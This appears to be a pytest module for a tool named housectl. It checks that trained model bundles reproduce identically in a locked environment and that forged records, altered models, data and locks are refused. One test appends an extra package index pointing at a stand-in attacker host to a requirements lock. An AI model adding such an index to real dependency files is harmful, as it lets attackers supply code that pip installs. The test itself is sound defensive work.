"""Bundles are trained again in a fresh environment: same bytes, or the input that differs.

One environment, built by pip from the lock, serves all tests of this module.
"""

import hashlib
import json
import os
import shutil
import signal
import subprocess
import sys
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest

import housectl
from housectl.contract.bundle_record import BundleRecord
from housectl.contract.trainer_code import locked_versions, read_lock
from housectl.errors import ExitStatus
from tests.spaces import GOOD
from tests.strace import inject_fault
from tools.project_directory import (
    HOUSECTL,
    CommandOutput,
    ProjectDirectory,
    clean_environment,
    example,
)

pytestmark = pytest.mark.slow

FOREST, BOOSTED = "forest", "boosted"
NEW_FIELDS = ("code", "golden", "housectl", "image_digest", "lock", "processor")


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> ProjectDirectory:
    """A project with a bundle of each family and the environment of their lock."""
    path = tmp_path_factory.mktemp("reproduction") / "boston"
    project = example(".", path, space={**GOOD, "n_estimators": 5}, budget={"trials": 1})
    project.run_ok("tune", "--name", FOREST)
    project.run_ok("promote")
    project.edit_config(
        family="xgboost", space={"max_depth": {"min": 2, "max": 3}, "n_estimators": 5}
    )
    project.run_ok("tune", "--name", BOOSTED)
    return project


@pytest.fixture(scope="module")
def killed_build(project: ProjectDirectory) -> set[str]:
    """Kill `reproduce` while it builds the environment, and return the names of its files."""
    environments = project.path / ".housectl" / "environments"
    process = subprocess.Popen(
        [HOUSECTL, "reproduce"],
        cwd=project.path,
        env=clean_environment(),
        stderr=subprocess.PIPE,
        text=True,
        start_new_session=True,
    )
    assert process.stderr is not None
    for line in process.stderr:
        if "environment: " in line:
            break
    os.killpg(process.pid, signal.SIGKILL)
    process.wait()
    process.stderr.close()
    return {path.name for path in environments.iterdir()}


@pytest.fixture(scope="module")
def built(project: ProjectDirectory, killed_build: set[str]) -> CommandOutput:
    """The first reproduction after the killed one: it builds the environment."""
    assert any(name.startswith(".tmp-") for name in killed_build)
    return project.run("reproduce", "--json")


@pytest.fixture
def environment(project: ProjectDirectory, built: CommandOutput) -> Path:
    assert built.status == ExitStatus.OK, built
    (path,) = (project.path / ".housectl" / "environments").iterdir()
    return path


@pytest.fixture
def store(project: ProjectDirectory, environment: Path, tmp_path: Path) -> Path:  # noqa: ARG001
    """A copy of the store, to be changed by a test; the environment exists."""
    return Path(shutil.copytree(project.store, tmp_path / "store"))


def version_of(project: ProjectDirectory, experiment: str) -> str:
    for path in (project.store / "challengers").iterdir():
        challenger = json.loads(path.read_text())
        if challenger["experiment"] == experiment:
            return str(challenger["bundle"])
    raise LookupError(experiment)


def edit_record(store: Path, digest: str, edit: Callable[[dict[str, object]], None]) -> str:
    """Edit bundle.json as a forger would: the directory gets the new digest. Return it."""
    path = store / "bundles" / digest
    record = json.loads((path / "bundle.json").read_text())
    edit(record)
    text = json.dumps(record)
    (path / "bundle.json").write_text(text)
    forged = BundleRecord.from_json(text.encode()).digest
    path.rename(path.with_name(forged))
    return forged


def contents(directory: Path) -> Mapping[str, str]:
    return {
        str(path.relative_to(directory)): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in directory.rglob("*")
        if path.is_file()
    }


def on_cores(number: int) -> tuple[str, ...]:
    """Return a command prefix under which a program has this number of cores."""
    cores = sorted(os.sched_getaffinity(0))[:number]
    statement = (
        f"import os, sys; os.sched_setaffinity(0, {cores}); os.execv(sys.argv[1], sys.argv[1:])"
    )
    return (sys.executable, "-c", statement)


def test_killed_build_is_repeated_and_champion_is_identical(
    project: ProjectDirectory, built: CommandOutput, environment: Path
) -> None:
    result = built.json
    assert result["identical"] is True
    assert result["version"] == version_of(project, FOREST)[:12]
    assert result["differing_inputs"] == []
    files = result["files"]
    assert isinstance(files, list)
    assert {row["file"] for row in files} == {
        *("MODEL_CARD.md", "bundle.json", "evidence.json", "golden.json", "metrics.json"),
        *("leaf_rows.bin", "model.joblib", "model.onnx", "reference.json"),
    }
    assert "environment: " in built.err
    assert environment.is_dir()
    assert not list((project.path / ".housectl" / "runs").glob("reproduce-*"))


def test_environment_has_the_locked_packages_and_the_trainer_only(environment: Path) -> None:
    statement = (
        "import json, sys, importlib.metadata as m, housectl, housectl_trainer, numpy; "
        "print(json.dumps([{d.name: d.version for d in m.distributions()}, "
        "[module.__file__ for module in (housectl, housectl_trainer, numpy)]]))"
    )
    completed = subprocess.run(
        [environment / "bin" / "python", "-P", "-c", statement],
        capture_output=True,
        text=True,
        check=True,
    )
    installed, files = json.loads(completed.stdout)
    lock = read_lock()
    assert lock is not None
    assert installed.items() >= locked_versions(lock.decode()).items()
    assert installed.keys() - locked_versions(lock.decode()) <= {"pip", "setuptools"}
    assert all(Path(file).is_relative_to(environment) for file in files)


@pytest.mark.parametrize(("name", "cores"), [(FOREST, 1), (BOOSTED, 1), (BOOSTED, 2)])
def test_bundle_is_identical_on_any_number_of_cores(
    project: ProjectDirectory, store: Path, tmp_path: Path, name: str, cores: int
) -> None:
    before = contents(store)
    kept = tmp_path / "kept"
    digest = version_of(project, name)
    arguments = ("reproduce", digest[:12], "--store", str(store), "--output-dir", str(kept))
    output = project.run(*arguments, "--json", wrapper=on_cores(cores))
    assert output.status == ExitStatus.OK, output
    assert output.json["identical"] is True
    assert contents(store) == before
    recorded = {**contents(store / "bundles" / digest)}
    del recorded["bundle.json"]
    assert contents(kept).items() >= recorded.items()
    assert (kept / "evidence.json").read_bytes() == (
        store / "evidence" / f"{digest}.json"
    ).read_bytes()
    again = project.run(*arguments)
    assert again.status == ExitStatus.USAGE
    assert str(kept) in again.err


def test_bundle_of_earlier_version_is_reproduced(project: ProjectDirectory, store: Path) -> None:
    def remove_new_fields(record: dict[str, object]) -> None:
        provenance = record["provenance"]
        assert isinstance(provenance, dict)
        for field in NEW_FIELDS:
            del provenance[field]

    digest = version_of(project, BOOSTED)
    assert edit_record(store, digest, remove_new_fields) == digest
    reproduction = housectl.open(project.path, store=store).reproduce(digest[:12])
    assert reproduction.identical
    assert reproduction.reproduced_digest == digest
    assert "The lock of the bundle is unknown" in reproduction.notes[0]
    inputs = reproduction.differing_inputs
    assert {each.input for each in inputs} >= {"code", "lock", "processor"}
    assert {each.recorded for each in inputs} == {None}


def test_edited_assignment_is_named(project: ProjectDirectory, store: Path) -> None:
    def edit(record: dict[str, object]) -> None:
        recipe = record["recipe"]
        assert isinstance(recipe, dict)
        recipe["assignment"]["n_estimators"] = 6

    forged = edit_record(store, version_of(project, BOOSTED), edit)
    output = project.run("reproduce", forged[:12], "--store", str(store), "--json")
    assert output.status == ExitStatus.BUNDLE, output
    assert output.json["identical"] is False
    reason = str(output.json["reason"])
    files = output.json["files"]
    assert isinstance(files, list)
    assert {each["file"] for each in files if not each["equal"]} >= {"bundle.json", "model.ubj"}
    assert "MODEL_CARD.md: recipe (`n_estimators` | 5, now `n_estimators` | 6)" in reason


def test_edited_bundle_is_refused(project: ProjectDirectory, store: Path) -> None:
    digest = version_of(project, FOREST)
    with (store / "bundles" / digest / "model.onnx").open("ab") as model:
        model.write(b"0")
    output = project.run("reproduce", "--store", str(store))
    assert output.status == ExitStatus.BUNDLE
    assert "model.onnx was altered" in output.err


def test_version_that_no_index_has_is_named_with_pips_log(
    project: ProjectDirectory, store: Path
) -> None:
    def edit(record: dict[str, object]) -> None:
        recipe = record["recipe"]
        assert isinstance(recipe, dict)
        recipe["libraries"]["joblib"] = "0.0.1"

    forged = edit_record(store, version_of(project, FOREST), edit)
    output = project.run("reproduce", forged, "--store", str(store), "--json")
    assert output.status == ExitStatus.LOCAL_ENVIRONMENT, output
    error = output.json["error"]
    assert isinstance(error, dict)
    assert "No matching distribution found for joblib==0.0.1" in error["message"]
    (log,) = (project.path / ".housectl" / "environments").glob("*.log")
    assert str(log) in error["hint"]
    assert "joblib==0.0.1" in log.read_text()
    log.unlink()


def test_changed_data_is_named_with_both_digests(project: ProjectDirectory, tmp_path: Path) -> None:
    copy = example(".", tmp_path / "changed")
    shutil.copytree(project.store, copy.store)
    recorded = hashlib.sha256((copy.path / "data.csv").read_bytes()).hexdigest()
    with (copy.path / "data.csv").open("a") as data:
        data.write("0.1,0,8.1,0,0.5,6,60,4,4,300,20,390,10,20\n")
    changed = hashlib.sha256((copy.path / "data.csv").read_bytes()).hexdigest()
    output = copy.run("reproduce")
    assert output.status == ExitStatus.BUNDLE, output
    assert recorded in output.err
    assert changed in output.err
    assert "git log" in output.err


def test_altered_inputs_are_refused(project: ProjectDirectory, tmp_path: Path) -> None:
    copy = example(".", tmp_path / "altered")
    shutil.copytree(project.store, copy.store)
    shutil.copytree(project.path / ".housectl" / "inputs", copy.path / ".housectl" / "inputs")
    for data in (copy.path / ".housectl" / "inputs").glob("*/data.csv"):
        data.write_text(data.read_text().replace("0.00632", "0.00633", 1))
    output = copy.run("reproduce")
    assert output.status == ExitStatus.BUNDLE, output
    assert "data.csv has the digest" in output.err


def test_altered_lock_is_refused(project: ProjectDirectory, store: Path) -> None:
    (lock,) = (store / "requirements").iterdir()
    with lock.open("a") as requirements:
        requirements.write("--extra-index-url https://attacker.example/simple\n")
    output = project.run("reproduce", "--store", str(store))
    assert output.status == ExitStatus.BUNDLE
    assert f"rm -f {lock}" in output.err


def test_unknown_version_and_missing_champion_are_errors(
    project: ProjectDirectory, tmp_path: Path
) -> None:
    assert project.run("reproduce", "0000").status == ExitStatus.USAGE
    empty = project.run("reproduce", "--store", str(tmp_path / "empty"))
    assert empty.status == ExitStatus.BUNDLE
    assert "has no champion yet" in empty.err


@pytest.mark.strace
def test_read_only_directory_is_an_error(project: ProjectDirectory, tmp_path: Path) -> None:
    copy = example(".", tmp_path / "read-only")
    shutil.copytree(project.store, copy.store)
    shutil.copytree(project.path / ".housectl" / "inputs", copy.path / ".housectl" / "inputs")
    output = copy.run("reproduce", wrapper=inject_fault("mkdir", "error=EROFS"))
    assert output.status == ExitStatus.LOCAL_ENVIRONMENT, output
    assert "Read-only file system" in output.err
